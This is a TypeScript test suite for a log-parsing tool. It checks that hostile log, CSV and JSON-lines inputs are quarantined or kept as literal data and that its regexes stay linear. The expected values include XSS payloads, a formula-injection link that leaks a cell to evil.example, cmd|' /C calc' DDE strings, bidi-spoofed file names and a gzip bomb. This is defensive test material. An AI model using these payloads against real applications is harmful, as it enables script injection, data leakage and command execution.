// The shared hostile corpus through every parser: nothing throws, bad records are quarantined
// with a reason, attacker text stays literal data, and records = events + quarantined.
import { describe, expect, it } from 'vitest';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { FORMATS, SKIP, newCounters, newRow, type SourceLayout } from '../../../src/core/formats/index';
import { LoupeError } from '../../../src/core/errors';
import { HOSTILE, cutRecords, parseText } from './helpers';
import { gzipBomb, longLineLog, multiMemberGzip, truncatedGzip, utf8SplitAtBoundary } from '../../fixtures/hostile/make';

const decode = (b: Uint8Array): string => new TextDecoder('utf-8', { fatal: false }).decode(b);
const files = readdirSync(HOSTILE).filter((f) => f !== 'README.md' && f !== 'make.ts');

/** Runs one text through one spec, forced: every record must parse or be quarantined, never throw. */
function throughSpec(text: string, layout: SourceLayout, name: string): { events: number; quarantined: number; records: number } {
  const spec = FORMATS.find((f) => f.name === name)!;
  const parser = spec.createParser({ tz: null, year: 2024, refTime: null, layout });
  let events = 0;
  let quarantined = 0;
  let records = 0;
  for (const rec of cutRecords(text, spec.framing)) {
    if (rec.line < layout.firstRecordLine) continue;
    const r = parser.parse(rec.text, newRow(), newCounters());
    if (r === SKIP) continue;
    records++;
    if (r === null) events++;
    else {
      expect(typeof r).toBe('string');
      expect(r.length).toBeGreaterThan(0);
      expect(r.length).toBeLessThan(200); // a reason, not an echo of the record
      quarantined++;
    }
  }
  return { events, quarantined, records };
}

describe('hostile corpus through every parser', () => {
  it('the README lists every committed file', () => {
    const readme = readFileSync(path.join(HOSTILE, 'README.md'), 'utf8');
    for (const f of files) expect(readme).toContain(`\`${f}\``);
  });

  for (const file of files) {
    it(`${file}: no parser throws, detection throws only LoupeError`, () => {
      const text = decode(readFileSync(path.join(HOSTILE, file)));
      const head = text.split('\n').slice(0, 200);
      for (const spec of FORMATS) {
        const layout = spec.detect(head)?.layout ?? spec.layoutFor?.(head) ?? null;
        if (layout === null) continue;
        const n = throughSpec(text, layout, spec.name);
        expect(n.events + n.quarantined).toBe(n.records);
      }
      try {
        const parsed = parseText(text);
        expect(parsed.rows.length + parsed.quarantined.length).toBe(parsed.records);
      } catch (e) {
        expect(e).toBeInstanceOf(LoupeError);
      }
    });
  }

  it('markup, URLs and bidi controls are kept literally as data', () => {
    const s = parseText(readFileSync(path.join(HOSTILE, 'script_tags.log'), 'utf8'));
    expect(s.rows[0].query).toBe('q=<script>alert(document.cookie)</script>');
    expect(s.rows[0].user_agent).toBe('<img src=x onerror=alert(1)>');
    expect(s.rows[1].path).toBe('/<svg/onload=alert(2)>');
    expect(s.rows[1].referrer).toBe("</td><script>fetch('//evil')</script>");
    expect(s.rows[1].user_agent).toBe('Mozilla/5.0 "><script>x</script>');
    const j = parseText(readFileSync(path.join(HOSTILE, 'javascript_url.log'), 'utf8'));
    expect(j.rows[0].referrer).toBe('javascript:alert(document.domain)');
    expect(j.rows[0].query).toBe('to=javascript:alert(1)');
    const b = parseText(readFileSync(path.join(HOSTILE, 'bidi.log'), 'utf8'));
    expect(b.rows[0].path).toBe('/invoice\u202egpj.exe');
    expect(b.rows[0].user_agent).toBe('Mozilla/5.0 \u202e\u2066evil\u2069\u200b');
  });

  it('formula payloads stay text, unprefixed (escaping is the exporter\'s job)', () => {
    const c = parseText(readFileSync(path.join(HOSTILE, 'formula.csv'), 'utf8'));
    expect(c.rows.map((r) => r.user_agent)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!'A1'"]);
    expect(JSON.parse(String(c.rows[1].extra))).toEqual({ note: "@SUM(1+9)*cmd|' /C calc'!A0" });
    expect(JSON.parse(String(c.rows[2].extra))).toEqual({ note: '\t=1+1' });
    const l = parseText(readFileSync(path.join(HOSTILE, 'formula.log'), 'utf8'));
    expect(l.rows[0]).toMatchObject({ path: '/=HYPERLINK("http://evil","x")', referrer: "=cmd|' /C calc'!A0", user_agent: '@SUM(1+1)' });
  });

  it('NUL bytes: kept inside values; a line of NULs is quarantined', () => {
    const n = parseText(readFileSync(path.join(HOSTILE, 'nul_bytes.log'), 'utf8'));
    expect(n.rows.map((r) => r.path)).toEqual(['/a\u0000b', '/ok']);
    expect(n.rows[1].user_agent).toBe('ua\u0000with nul');
    expect(n.quarantined).toHaveLength(1);
    expect(n.quarantined[0].line).toBe(2);
  });

  it('invalid UTF-8 does not stop parsing (the raw bytes are the pipeline\'s to keep)', () => {
    const u = parseText(decode(readFileSync(path.join(HOSTILE, 'invalid_utf8.log'))));
    expect(u.rows).toHaveLength(3);
    expect(u.quarantined).toHaveLength(0);
    expect(u.rows[2].status).toBe(404);
  });

  it('CRLF, BOM and a missing final newline never leak into values', () => {
    for (const f of ['crlf.log', 'crlf.csv', 'bom.csv', 'bom.log', 'no_final_newline.log']) {
      const p = parseText(readFileSync(path.join(HOSTILE, f), 'utf8'));
      expect(p.quarantined, f).toHaveLength(0);
      for (const row of p.rows) for (const v of Object.values(row)) if (typeof v === 'string') expect(v, f).not.toMatch(/[\r\ufeff]/);
    }
    expect(parseText(readFileSync(path.join(HOSTILE, 'no_final_newline.log'), 'utf8')).rows[1].path).toBe('/last');
    expect(parseText(readFileSync(path.join(HOSTILE, 'bom.csv'), 'utf8')).detected.layout.mapping.src_ip).toBe('ip');
  });

  it('CSV: unterminated quote and wrong field counts are quarantined with the reason', () => {
    const u = parseText(readFileSync(path.join(HOSTILE, 'unterminated_quote.csv'), 'utf8'));
    expect(u.rows.map((r) => r.src_ip)).toEqual(['192.0.2.40']);
    expect(u.quarantined.map((q) => q.reason)).toEqual(['unterminated quote']);
    const w = parseText(readFileSync(path.join(HOSTILE, 'wrong_field_count.csv'), 'utf8'));
    expect(w.rows).toHaveLength(1);
    expect(w.quarantined.map((q) => q.reason)).toEqual(['expected 6 fields, found 3', 'expected 6 fields, found 8']);
  });

  it('JSON lines: a truncated object and a non-object are quarantined, hostile values kept', () => {
    const j = parseText(readFileSync(path.join(HOSTILE, 'hostile.jsonl'), 'utf8'));
    expect(j.rows).toHaveLength(2);
    expect(j.quarantined.map((q) => q.reason)).toEqual(['invalid JSON: Expected double-quoted property name', 'JSON value is not an object']);
    expect(j.rows[0]).toMatchObject({ query: '<script>alert(1)</script>', referrer: 'javascript:alert(1)', user_agent: '=HYPERLINK("http://x")' });
    expect(j.rows[1]).toMatchObject({ path: '/\u202etxt.exe', user_agent: '\u0000nul' });
  });

  it('auth log: hostile user names are data; a garbage line is quarantined', () => {
    const a = parseText(readFileSync(path.join(HOSTILE, 'auth_hostile.log'), 'utf8'));
    expect(a.rows.map((r) => [r.action, r.user])).toEqual([
      ['invalid_user', '<script>alert(1)</script>'],
      ['auth_failure', '=HYPERLINK("http://x")'],
      ['auth_failure', '\u202eroot'],
    ]);
    expect(a.quarantined).toHaveLength(1);
  });

  it('empty and binary files: a clear unmappable error', () => {
    for (const f of ['empty.log', 'binary.bin']) {
      expect(() => parseText(decode(readFileSync(path.join(HOSTILE, f))))).toThrow(LoupeError);
    }
  });

  it('archives and binary event logs are named, with what to do instead', () => {
    const tarHeader = Buffer.alloc(1024);
    tarHeader.write('var/log/auth.log', 0, 'latin1');
    tarHeader.write('ustar\u000000', 257, 'latin1');
    const cases: [Buffer, RegExp][] = [
      [tarHeader, /not a text log but a tar archive .*extract it/],
      [Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000auth.log', 'latin1'), /zip archive: unzip it/],
      [Buffer.concat([Buffer.from('ElfFile\u0000', 'latin1'), Buffer.alloc(120)]), /\.evtx\): export it as XML .*EvtxECmd/],
      [Buffer.concat([Buffer.from('BZh91AY&SY', 'latin1'), Buffer.from([0x8f, 0x00, 0x00, 0x01, 0x02, 0x00, 0x00])]), /bzip2-compressed: decompress it/],
      [Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, 0xe6, 0xd6, 0xb4, 0x46, 0x02, 0x00, 0x21, 0x01]), /xz-compressed/],
    ];
    for (const [bytes, msg] of cases) expect(() => parseText(decode(bytes))).toThrow(msg);
  });
});

describe('generated hostile inputs', () => {
  it('a 1 MiB line parses (or is quarantined) in every parser without throwing', () => {
    const text = longLineLog().toString('utf8');
    const lines = text.split('\n');
    expect(lines[1].length).toBe(1 << 20);
    const p = parseText(text);
    expect(p.rows).toHaveLength(3);
    expect(String(p.rows[1].path).length).toBeGreaterThan(1_000_000);
    for (const spec of FORMATS) {
      const layout = spec.detect(lines)?.layout ?? spec.layoutFor?.(lines) ?? null;
      if (layout !== null) throughSpec(text, layout, spec.name);
    }
  });

  it('a UTF-8 character split across a block boundary decodes whole with a streaming decoder', () => {
    const block = 1 << 16;
    const { data, charAt } = utf8SplitAtBoundary(block);
    expect(data.subarray(charAt, charAt + 3)).toEqual(Buffer.from('\u20ac'));
    const dec = new TextDecoder('utf-8');
    const text = dec.decode(data.subarray(0, block), { stream: true }) + dec.decode(data.subarray(block));
    const p = parseText(text);
    expect(p.quarantined).toHaveLength(0);
    expect(p.rows.some((r) => String(r.path).endsWith('\u20ac'))).toBe(true);
  });

  it('truncated gzip keeps a decodable prefix and then fails; multi-member decodes both members', () => {
    const t = truncatedGzip();
    expect(() => gunzipSync(t.data)).toThrow();
    const m = multiMemberGzip();
    expect(gunzipSync(m.data).toString()).toBe(m.fullText);
  });

  it('the gzip bomb is small on disk and trips an output cap', () => {
    const bomb = gzipBomb(256 * 1024 ** 2);
    expect(bomb.length).toBeLessThan(2 * 1024 ** 2);
    expect(() => gunzipSync(bomb, { maxOutputLength: 16 * 1024 ** 2 })).toThrow(RangeError);
  });
});

describe('near-matches repeated along one line stay linear', () => {
  // each was over 4 s on a 100 KB line (seconds grow with the square of the length) before its regex was bounded
  const SY = 'Mar  1 10:00:00 fw ';
  const long = (unit: string, n = 200_000): string => unit.repeat(Math.ceil(n / unit.length));
  const cases: [string, string, string][] = [
    ['HAProxy: a run of quotes where the request should be', 'syslog', `${SY}haproxy[1]: 203.0.113.5:51234 [01/May/2024:10:00:01.123] fe be/srv 0/0/1/2/3 200 +12 ${long('"')}`],
    ['HAProxy: a run of open captured-header braces before no request', 'syslog', `${SY}haproxy[1]: 10.0.0.5:51234 [01/May/2024:10:00:01.123] fe be/srv 0/0/1/2/3 200 +12 ${long('{a|b} "x')}`],
    ['ASA 113015: repeated "user = " with no user IP', 'syslog', `${SY}%ASA-6-113015: AAA user authentication Rejected : ${long('user = ', 500_000)}`],
    ['text: "[" then a run of colons (bracketed IPv6 search)', 'text', `2024-01-01 10:00:00 x [${long(':')}`],
    ['IOS SSH2_USERAUTH: quotes and parentheses with no verdict', 'syslog', `${SY}%SSH-5-SSH2_USERAUTH: User 'a' authentication for SSH2 Session from 203.0.113.5 (tty = 0) ${long("'x' ")}`],
    ['IOS LOGIN_FAILED: an endless user bracket', 'syslog', `${SY}%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: ${long('[user: ')}`],
    ['SRX: a close reason of colons and no address pair', 'syslog', `${SY}RT_FLOW: RT_FLOW_SESSION_CLOSE: session closed ${long('a: ')}`],
    ['SRX: a created session followed by numbers that never make a session id', 'syslog', `${SY}RT_FLOW: session created 10.0.0.1/1->10.0.0.2/2 svc ${long('6 x ')}`],
    ['Check Point: an endless run of key:" pairs that never close', 'syslog', `<134>1 2024-01-05T10:00:01Z gw CheckPoint 1 - [${long('src:"\\"; ')}`],
    ['S3 access log: a user agent of escaped quotes that never ends', 's3', `${'a'.repeat(64)} bucket [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE REST.GET.OBJECT k "GET /k HTTP/1.1" 200 - 1 1 1 1 "-" "${long('\\" ')}`],
    ['LEEF: a body of delimiters and bars without pairs', 'kv', `LEEF:2.0|V|P|1|E|^|src=10.0.0.1^dst=10.0.0.2^srcPort=1^dstPort=2^${long('^|=')}`],
    ['tab-separated pairs: a million tabs and equals signs', 'kv', `datetime=Mon Nov 30 10:01:02 2026\tClientIP=10.0.0.1\tserverip=10.0.0.2\tstatus=200\t${long('a="=\t')}`],
    ['xferlog: a file name of a million spaces', 'text', `Fri Jan  5 10:00:01 2024 1 203.0.113.5 12 ${long(' ')}b _ o r u ftp 0 * c`],
    ['vsftpd transfer: a file name that never closes', 'text', `Fri Jan  5 10:00:01 2024 [pid 1] [u] OK DOWNLOAD: Client "203.0.113.5", "${long('"/a ')}`],
    ['OpenVPN: a common name of slashes', 'text', `2024-01-05 10:00:01 ${long('a/')}203.0.113.5:1 x`],
    ['MikroTik firewall: endless comma-separated trailers and no length', 'syslog', `${SY}firewall,info input: in:e1 out:(unknown 0), proto TCP (SYN), 10.0.0.1:1->10.0.0.2:2${long(', NAT x')}`],
    ['Azure Firewall message: a target of colons', 'jsonl', JSON.stringify({ time: '2024-01-05T10:00:01Z', category: 'x', properties: { msg: `TCP request from 10.0.0.1:1 to ${long('a:')}` } })],
    ['WatchGuard: a policy of parentheses', 'syslog', `${SY}firewall: msg_id="3000-0148" Deny a b 52 tcp 20 64 10.0.0.5 10.0.0.6 1 2 ${long('((x)')}`],
    ['Envoy: a request line of quotes', 'text', `[2024-01-05T10:00:01.123Z] "GET /${long('" 200 - 0 1 2 3 "')}`],
    ['Meraki: a million k=v tokens before the pattern', 'syslog', `<134>1 1704448801.123456789 MX84 flows src=10.0.0.1 ${long('a=b ')}pattern: deny`],
    ['PAN-OS record: an unterminated quote and NULs', 'panos', `1,2024/01/05 10:00:01,0128,THREAT,url,2560,2024/01/05 10:00:01,10.0.0.5,198.51.100.77,,,r,,,web,vsys1,a,b,e1,e2,L,2024/01/05 10:00:01,1,1,1,80,0,0,0x0,tcp,alert,"${long('\u0000,"x')}`],
  ];
  for (const [name, format, line] of cases) {
    it(name, () => {
      const t = performance.now();
      const p = parseText(`${line}\n`, { format });
      expect(p.rows.length + p.quarantined.length).toBe(1);
      expect(performance.now() - t).toBeLessThan(2000);
    });
  }

  it('the bounded regexes still read the real lines', () => {
    const h = parseText(`${SY}haproxy[1]: 203.0.113.5:51234 [01/May/2024:10:00:01.123] fe be/srv 0/0/1/2/3 200 1234 - - ---- 1/1/0/0/0 0/0 {ua "x"} "GET /p?q=1 HTTP/1.1"\n`, { format: 'syslog' });
    expect(h.rows[0]).toMatchObject({ src_ip: '203.0.113.5', method: 'GET', path: '/p', status: 200 });
    const a = parseText(`${SY}%ASA-6-113015: AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.1 : user = bob : user IP = 198.51.100.7\n`, { format: 'syslog' });
    expect(a.rows[0]).toMatchObject({ action: 'auth_failure', user: 'bob', src_ip: '198.51.100.7' });
    const v = parseText('2024-01-01 10:00:00 connect from [2001:db8::7]:4422 refused\n', { format: 'text' });
    expect(v.rows[0]).toMatchObject({ src_ip: '2001:db8::7', src_port: 4422 });
  });
});
